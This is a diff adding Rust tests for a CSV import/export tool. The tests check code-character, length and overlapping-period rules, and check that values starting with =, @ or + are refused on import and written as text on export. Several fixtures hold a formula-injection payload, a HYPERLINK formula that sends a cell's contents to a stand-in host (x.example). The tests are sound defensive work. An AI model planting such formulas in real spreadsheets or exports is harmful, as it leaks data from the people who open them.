@@ -211,6 +211,38 @@ on_both_engines!(every_contract_rule_is_reported_precisely_and_nothing_is_writte
         ]),
         (vec![("surveys.csv", format!("{surveys_h}C11,FG,2024-08,ten,5\n"))], vec!["surveys.csv:2: respondents: `ten` is not a whole number"]),
         (vec![("surveys.csv", format!("{surveys_h}C11,FG,2024-08,10\n"))], vec!["surveys.csv:2: -: has 4 fields, the header has 5"]),
+        // The write rules of the contract: codes, texts, no formula, no overlapping periods.
+        (vec![("units.csv", format!("{units_h}C 50,Xã,commune,D1,xã,,,\n"))], vec![
+            "units.csv:2: code: ` ` may not be in a code (ASCII letters, digits, `.`, `_` and `-` only)",
+        ]),
+        (vec![("units.csv", format!("{units_h}{},Xã,commune,D1,xã,,,\n", "C".repeat(33)))], vec![
+            "units.csv:2: code: a code has at most 32 characters, got 33",
+        ]),
+        (vec![("units.csv", format!("{units_h}C50,\"=HYPERLINK(\"\"http://x.example/?\"\"&B2,\"\"Xem\"\")\",commune,D1,xã,,,\n"))], vec![
+            "units.csv:2: name: must not begin with `=`: a spreadsheet would run it as a formula",
+        ]),
+        (vec![("units.csv", format!("{units_h}C50,Xã,commune,D1,@xã,,,\n"))], vec![
+            "units.csv:2: kind: must not begin with `@`: a spreadsheet would run it as a formula",
+        ]),
+        (vec![("models.csv", format!("code,name,description\nQR,Mã QR,{}\n", "x".repeat(5001)))], vec![
+            "models.csv:2: description: at most 5000 characters, got 5001",
+        ]),
+        (vec![("models.csv", format!("code,name,category\nQR,{},\n", "ô".repeat(501)))], vec![
+            "models.csv:2: name: at most 500 characters, got 501",
+        ]),
+        (vec![("models.csv", "code,name,category\nQR,Mã QR,+cat\n".into())], vec![
+            "models.csv:2: category: must not begin with `+`: a spreadsheet would run it as a formula",
+        ]),
+        (vec![("surveys.csv", format!("{surveys_h}C11,F;G,2024-08,10,5\n"))], vec![
+            "surveys.csv:2: model_code: `;` may not be in a code (ASCII letters, digits, `.`, `_` and `-` only)",
+        ]),
+        (vec![("surveys.csv", format!("{surveys_h}C12,FG,2024-07,10,5\nC12,FG,2024-Q3,20,10\n"))], vec![
+            "surveys.csv:2: period: 2024-07 overlaps 2024-Q3 of the same unit and model (line 3): its ballots would count twice",
+            "surveys.csv:3: period: 2024-Q3 overlaps 2024-07 of the same unit and model (line 2): its ballots would count twice",
+        ]),
+        (vec![("surveys.csv", format!("{surveys_h}C11,FG,2024-04,10,5\n"))], vec![
+            "surveys.csv:2: period: 2024-04 overlaps 2024-Q2 of the same unit and model (already in the database): its ballots would count twice",
+        ]),
         // Several problems in several files are all reported, in file and line order.
         (
             vec![
@@ -389,4 +421,37 @@ on_both_engines!(raw_tables_download_over_http_in_the_import_format, |engine: En
     );
     assert_eq!(app.get("/export/nothing.csv").await.status(), 404);
     assert_eq!(app.get("/export/district-summary.pdf?period=2024").await.status(), 404);
+});
+
+on_both_engines!(exports_write_stored_formulas_as_text, |engine: Engine| async move {
+    use sea_orm::ConnectionTrait;
+    // Stored before the rule existed (the import refuses it now): straight into the table.
+    let app = TestApp::spawn_with(engine, false, |db| async move {
+        let set = server::sources::read(&fixture("small")).unwrap();
+        app::ssr::import::import(&db, &set, Default::default(), "test", &|_, _, _| {}).await.unwrap();
+        db.execute_unprepared(
+            "UPDATE units SET name = '=HYPERLINK(\"http://x.example/?\"&B2,\"Xem\")' WHERE code = 'D2'",
+        )
+        .await
+        .unwrap();
+        db.execute_unprepared("UPDATE reform_models SET category = '@SUM(A1)' WHERE code = 'NW'").await.unwrap();
+    })
+    .await;
+    let (_, csv) = app.get_text("/export/district-summary.csv?period=2024").await;
+    assert!(csv.contains("\nD2,\"'=HYPERLINK(\"\"http://x.example/?\"\"&B2,\"\"Xem\"\")\",2,2,"), "{csv}");
+    let (_, csv) = app.get_text("/export/units.csv").await;
+    assert!(csv.contains("\nD2,\"'=HYPERLINK("), "{csv}");
+    assert!(!csv.contains(",=HYPERLINK"));
+    let (_, csv) = app.get_text("/export/models.csv").await;
+    assert!(csv.contains(",'@SUM(A1),"), "{csv}");
+    let (_, csv) = app.get_text("/charts/adoption-by-district.csv?period=2024").await;
+    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
+    // The workbook holds it as a string cell, never a formula.
+    use calamine::{Data, Reader};
+    let bytes = app.get("/export/district-summary.xlsx?period=2024").await.bytes().await.unwrap();
+    let mut book = calamine::Xlsx::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
+    let sheet = book.worksheet_range("district_summary").unwrap();
+    let cell = sheet.rows().find(|r| r[0] == Data::String("D2".into())).unwrap()[1].clone();
+    assert_eq!(cell, Data::String("=HYPERLINK(\"http://x.example/?\"&B2,\"Xem\")".into()));
+    assert!(book.worksheet_formula("district_summary").unwrap().used_cells().next().is_none(), "no formulas");
 });
